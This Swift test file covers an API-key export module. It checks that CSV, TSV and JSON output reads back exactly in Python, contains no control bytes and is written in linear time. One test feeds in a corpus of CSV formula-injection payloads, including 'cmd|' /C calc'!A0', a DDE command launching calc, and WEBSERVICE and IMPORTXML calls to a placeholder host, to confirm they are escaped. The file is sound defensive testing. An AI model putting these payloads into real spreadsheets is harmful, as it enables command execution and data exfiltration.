import APIKeyModel
import Digests
import Foundation
import KeyJSON
import KeyTable
import TestSupport
import Testing

@testable import KeyExport

/// What is written reads back, and can do no harm on the way.
@Suite("Export formats", .timeLimit(.minutes(20)))
struct ExportFormatTests {
  @Test("CSV reads back exactly in a second reader", .tags(.c1))
  func csvReadsBack() throws {
    let seed = UInt64.random(in: 0 ... .max)
    var names = HostileNames(seed: seed)
    let keys = (0..<100_000).map { ExportFixture.key($0, name: names.name()) }
    let fixture = try ExportFixture()
    _ = try fixture.export(keys, .csv, columns: [.name, .id, .permissions], csvRaw: true)
    let read = try fixture.python(
      """
      import csv, sys
      rows = list(csv.reader(open(sys.argv[1], newline='', encoding='utf-8')))
      assert rows[0] == ['name', 'id', 'permissions'], rows[0]
      assert all(row[2] == 'calls.view é,"x"' for row in rows[1:])
      sys.stdout.write('\\n'.join(row[0].encode().hex() for row in rows[1:]))
      """)
    let found = read.split(separator: "\n", omittingEmptySubsequences: false)
    try #require(found.count == keys.count)
    let wrong = zip(found, keys).filter { $0 != ExportFixture.hex($1.name ?? "") }
    #expect(wrong.isEmpty, "seed \(seed): \(wrong.count) rows differ, the first has \(wrong.first?.0 ?? "")")
    print("figure C1: \(keys.count) random rows read back exactly by Python's csv (seed \(seed))")
  }

  @Test(
    "No cell is a formula", .tags(.c2),
    arguments: ["=1", "+1", "-1", "@a", "\tx", "\rx", "\nx", "\0x", "\u{FF1D}1", "\u{FF0B}1", "\u{FF0D}1", "\u{FF20}a"])
  func formulasAreText(_ name: String) {
    var guarded: [UInt8] = []
    CSVText.append(name, raw: false, to: &guarded)
    // A sign gets an apostrophe; a control is written as its code, which begins no formula.
    let isControl = name.utf8.first.map { $0 < 0x20 } ?? false
    #expect(guarded.starts(with: (isControl ? "\"<U+" : "\"'").utf8))
    var raw: [UInt8] = []
    CSVText.append(name, raw: true, to: &raw)
    #expect(raw == Array("\"\(name)\"".utf8))
  }

  @Test("No formula of a corpus is one in a second reader, and no two become the same cell", .tags(.c2))
  func formulaCorpus() throws {
    let starts = ["=", "+", "-", "@", "\t", "\r", "\n", "\0", "\u{FF1D}", "\u{FF0B}", "\u{FF0D}", "\u{FF20}"]
    let bodies = [
      "1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"http://x\",\"y\")", "SUM(1,2)", "WEBSERVICE(\"http://x/\"&A1)",
      "\u{301}1", "",
      "\"=1", ",=1", "\r\n=1", "IMPORTXML(CONCAT(\"http://x\"),\"//a\")", "DDE(\"cmd\";\"/C calc\";\"x\")",
    ]
    var names = starts.flatMap { start in bodies.map { start + $0 } }
    names += names.map { "'" + $0 } + names.map { " " + $0 } + names.map { "\u{200B}" + $0 } + names.map { "x" + $0 }
    let fixture = try ExportFixture()
    _ = try fixture.export(names.enumerated().map { ExportFixture.key($0, name: $1) }, .csv, columns: [.name, .name])
    let read = try fixture.python(
      """
      import csv, sys
      rows = list(csv.reader(open(sys.argv[1], newline='', encoding='utf-8'), strict=True))[1:]
      print(len(rows), sum(row[0] != row[1] for row in rows), len(set(row[0] for row in rows)))
      print(sum(cell.startswith(tuple('=+-@\\t\\r\\n\\0\\uFF1D\\uFF0B\\uFF0D\\uFF20')) for row in rows for cell in row))
      """)
    #expect(read == "\(names.count) 0 \(names.count)\n0\n")
    print("figure C2: 0 formula cells and 0 collisions in \(names.count) names made to be formulas")
  }

  @Test(
    "Text longer than a table column is whole in machine-readable formats",
    arguments: [ExportFormat.csv, .tsv, .json])
  func longFields(_ format: ExportFormat) throws {
    let name = String(repeating: "n\u{E9}", count: 2000)
    let permissions = (0..<300).map { "resource\($0).\u{E9}" }
    let key = APIKey(id: .opaque("a"), name: name, restricted: true, permissions: PermissionSet(permissions))
    let text = String(decoding: try ExportFixture().export([key], format), as: UTF8.self)
    #expect(text.contains(name))
    #expect(permissions.allSatisfy { text.contains($0) })
  }

  @Test("Cells and code spans are written in time linear in their bytes", .tags(.s12))
  func linearTime() {
    func seconds(_ work: () -> Void) -> Double {
      func now() -> Double {
        var time = timespec()
        clock_gettime(CLOCK_THREAD_CPUTIME_ID, &time)
        return Double(time.tv_sec) + Double(time.tv_nsec) / 1e9
      }
      return (0..<3).map { _ in
        let start = now()
        work()
        return now() - start
      }.min() ?? 0
    }
    let shapes = ["'", " ", "\u{3000}", ";", ",=", ";'=", "\"", "`", "|", "a", "; '", "=", "` "]
    var worst = 0.0
    for shape in shapes {
      func time(_ count: Int) -> Double {
        let text = String(repeating: shape, count: count) + "="
        return seconds {
          var bytes: [UInt8] = []
          CellText.append(guarding: text, quoted: true, to: &bytes)
          MarkdownText.append(text, to: &bytes)
        }
      }
      let ratio = time(80_000) / time(40_000)
      worst = max(worst, ratio)
      #expect(ratio < 3, "\(shape): \(ratio)")
    }
    print("figure S12: twice the bytes of \(shapes.count) shapes of text take \(worst) times as long at most")
  }

  @Test("A name that is no formula stays as it is", .tags(.c2))
  func othersAreUntouched() {
    var bytes: [UInt8] = []
    CSVText.append("a=1", raw: false, to: &bytes)
    #expect(bytes == Array("\"a=1\"".utf8))
  }

  @Test("No format contains a control byte", .tags(.a1), arguments: ExportFormat.allCases)
  func noControls(_ format: ExportFormat) throws {
    let scalars = (Array(0...0x1F) + Array(0x7F...0x9F) + [0x202E, 0x2066, 0x200B, 0xFEFF]).compactMap(
      Unicode.Scalar.init)
    let keys = scalars.enumerated().map { index, scalar in
      APIKey(
        id: .opaque("id\(index)\(scalar)"), name: "n\(scalar)[31m", createdText: "d\(scalar)", lastFour: "l\(scalar)",
        creator: .opaque("c\(scalar)"), restricted: true, permissions: PermissionSet(["p\(scalar).x"]))
    }
    let bytes = try ExportFixture().export(keys, format)
    let text = try #require(String(validating: bytes, as: UTF8.self))
    let bad = text.unicodeScalars.filter { scalar in
      switch scalar.value {
      case 0x0A: false
      case 0x09: format != .tsv
      case 0x0D: format != .csv
      case 0..<0x20, 0x7F..<0xA0, 0x202E, 0x2066, 0x200B, 0xFEFF: true
      default: false
      }
    }
    #expect(bad.isEmpty, "\(bad.map { String($0.value, radix: 16) })")
  }

  @Test("One key is one line", .tags(.a3), arguments: [ExportFormat.plain, .tsv, .ndjson, .table, .markdown])
  func oneLineAKey(_ format: ExportFormat) throws {
    let seed = UInt64.random(in: 0 ... .max)
    var names = HostileNames(seed: seed)
    let keys = (0..<2000).map { ExportFixture.key($0, name: names.name()) }
    let bytes = try ExportFixture().export(keys, format)
    let head = [ExportFormat.tsv: 1, .table: 1, .markdown: 2][format] ?? 0
    #expect(bytes.filter { $0 == 0x0A }.count == keys.count + head, "seed \(seed)")
    #expect(bytes.last == 0x0A)
  }

  @Test("One key is one CSV row, and a name adds no cell", .tags(.a3))
  func csvRows() throws {
    let seed = UInt64.random(in: 0 ... .max)
    var names = HostileNames(seed: seed)
    let keys = (0..<2000).map { ExportFixture.key($0, name: names.name()) }
    let fixture = try ExportFixture()
    _ = try fixture.export(keys, .csv)
    let counts = try fixture.python(
      """
      import csv, sys
      rows = list(csv.reader(open(sys.argv[1], newline='', encoding='utf-8')))
      print(len(rows), set(map(len, rows)))
      """)
    #expect(counts == "2001 {7}\n", "seed \(seed)")
  }

  @Test("JSON is lossless in a second parser", .tags(.a6))
  func jsonReadsBack() throws {
    let seed = UInt64.random(in: 0 ... .max)
    var names = HostileNames(seed: seed)
    let keys = (0..<20_000).map { ExportFixture.key($0, name: names.name()) }
    let fixture = try ExportFixture()
    _ = try fixture.export(keys, .json)
    let read = try fixture.python(
      """
      import hashlib, json, sys
      text = open(sys.argv[1], encoding='utf-8', newline='').read()
      page = json.loads(text)
      assert page['complete'] is True and page['count'] == len(page['data'])
      body = text[text.index('[') + 2:text.rindex('\\n]')].replace('},\\n', '}\\n') + '\\n'
      assert hashlib.sha256(body.encode()).hexdigest() == page['evidence']['sha256']
      for key in page['data']:
        assert key['permissions'] == ['calls.view', 'é,"x"'] and key['created_date'] == '2023-11-14T22:13:20Z', key
      sys.stdout.write('\\n'.join(key['name'].encode().hex() for key in page['data']))
      """)
    let found = read.split(separator: "\n", omittingEmptySubsequences: false)
    try #require(found.count == keys.count)
    #expect(zip(found, keys).allSatisfy { $0 == ExportFixture.hex($1.name ?? "") }, "seed \(seed)")
    print("figure A6: \(keys.count) random names equal after Python's json, and the digest right (seed \(seed))")
  }
}
